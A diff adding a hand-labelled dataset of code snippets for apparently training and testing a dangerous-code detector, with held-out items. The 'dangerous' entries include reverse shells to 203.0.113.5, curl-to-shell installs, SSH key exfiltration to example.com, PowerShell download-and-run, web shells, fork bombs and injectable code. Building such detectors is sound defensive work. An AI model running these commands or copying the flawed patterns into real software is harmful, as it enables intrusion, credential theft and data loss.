@@ -1,0 +1,16 @@
+/** Written by hand: whether code is dangerous. Even ones are for tuning, odd ones are held out. */
+export const codeSamples: readonly (readonly [dangerous: boolean, code: string])[] = [
+  [true, 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], [true, 'nc -e /bin/sh 203.0.113.5 4444'], [true, 'curl -fsSL https://example.com/install.sh | sudo bash'], [true, 'wget -qO- http://example.com/x | sh'],
+  [true, 'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")'], [true, 'import os\nos.system("rm -rf " + user_input)\neval(input())'], [true, "echo 'Y3VybCBldmls' | base64 -d | sh"], [true, 'exec(base64.b64decode("aW1wb3J0IG9z"))'],
+  [true, 'const { exec } = require("child_process");\nexec(`ls ${req.query.dir}`);'], [true, 'app.get("/", (req, res) => res.send(eval(req.query.code)));'], [true, '<?php system($_GET["cmd"]); ?>'], [true, '<?php eval($_POST["x"]); ?>'],
+  [true, 'sudo rm -rf / --no-preserve-root'], [true, ':(){ :|:& };:'], [true, 'import pickle\ndata = pickle.loads(request.data)'], [true, 'cfg = yaml.load(open("c.yml"))'],
+  [true, 'cursor.execute(f"SELECT * FROM users WHERE name = \'{name}\'")'], [true, 'db.query("SELECT * FROM t WHERE id = " + id)'], [true, 'API_KEY = "9f8a7b6c5d4e3f2a1b0c"\nrequests.get(url, headers={"k": API_KEY})'], [true, 'password = "Sup3rS3cret!"\nconnect(password)'],
+  [true, 'cat ~/.ssh/id_rsa | curl -d @- https://example.com'], [true, 'curl http://169.254.169.254/latest/meta-data/iam/'], [true, 'powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'], [true, "IEX (New-Object Net.WebClient).DownloadString('http://example.com/p.ps1')"],
+  [true, 'subprocess.run("ping " + host, shell=True)'], [true, 'Runtime.getRuntime().exec("sh -c " + cmd);'], [true, '#include <stdio.h>\nint main() { char b[8]; gets(b); strcpy(b, argv[1]); }'], [true, 'x = getattr(__builtins__, "ev" + "al")\nx(payload)'],
+  [false, 'def add(a, b):\n    return a + b'], [false, 'const sum = (a, b) => a + b;\nconsole.log(sum(1, 2));'], [false, 'SELECT name FROM users WHERE id = ?'], [false, 'import os\nprint(os.path.join("a", "b"))'],
+  [false, 'cursor.execute("SELECT * FROM users WHERE name = %s", (name,))'], [false, 'cfg = yaml.safe_load(open("c.yml"))'], [false, 'password = os.environ["DB_PASSWORD"]'], [false, 'const key = process.env.API_KEY;'],
+  [false, 'subprocess.run(["ls", "-l"], check=True)'], [false, 'execFile("git", ["status"], done);'], [false, 'curl -o file.tar.gz https://example.com/file.tar.gz\nsha256sum -c file.sha256'], [false, 'rm -rf build dist\nnpm run build'],
+  [false, 'The evaluation function was executed by the team.'], [false, 'Please curl your hair and bash the piñata.'], [false, 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hi") }'], [false, 'public class Main { public static void main(String[] a) { System.out.println("x"); } }'],
+  [false, 'model.eval()\nwith torch.no_grad():\n    y = model(x)'], [false, 'const m = /ab+c/.exec(text);'], [false, '#include <stdio.h>\nint main(void) { printf("%d\\n", 1); }'], [false, 'json.loads(body)\nast.literal_eval("[1]")'],
+  [false, 'git add . && git commit -m "fix"'], [false, 'docker build -t app . && docker run app'], [false, '# never run curl x | sh\nprint("safe")'], [false, 'for f in *.txt; do echo "$f"; done'],
+];
